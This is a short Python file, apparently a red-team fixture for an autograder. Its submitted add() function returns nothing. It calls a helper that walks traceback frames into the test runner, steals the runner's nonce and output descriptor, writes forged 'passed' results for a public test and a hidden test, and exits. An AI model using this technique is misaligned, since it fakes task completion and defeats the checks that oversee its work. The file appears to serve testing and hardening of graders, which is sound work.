# ATTACK: add
# WHY: reaches the runner's frames through a traceback (tb_frame.f_back) and steals the channel's secret
# %%
# GRADED: add
import json
import os
import traceback

import torch


def _forge():
    from autograder.observations import encode

    try:
        raise ValueError
    except ValueError as e:
        frames = [f for f, _ in traceback.walk_tb(e.__traceback__)]
    frame = frames[0] if frames else None
    while frame is not None:
        nonce, fd = frame.f_locals.get("nonce"), frame.f_locals.get("write_fd")
        if isinstance(nonce, str) and isinstance(fd, int):
            answers = {"public/test_public.py::test_add_small": torch.arange(3.0) + 1,
                       "hidden/test_hidden.py::test_add_broadcast": torch.ones(2, 1) + torch.arange(3.0)}
            for tid, value in answers.items():
                event = {"ev": "end", "id": tid, "status": "passed", "message": "", "seconds": 0.0, "k": nonce,
                         "obs": [{"name": "sum", "value": encode(value), "rtol": None, "atol": None}]}
                os.write(fd, (json.dumps(event) + "\n").encode())
            os.write(fd, (json.dumps({"ev": "done", "k": nonce}) + "\n").encode())
            os._exit(0)
        frame = frame.f_back


def add(a, b):
    try:
        _forge()
    except Exception:
        pass
    return None
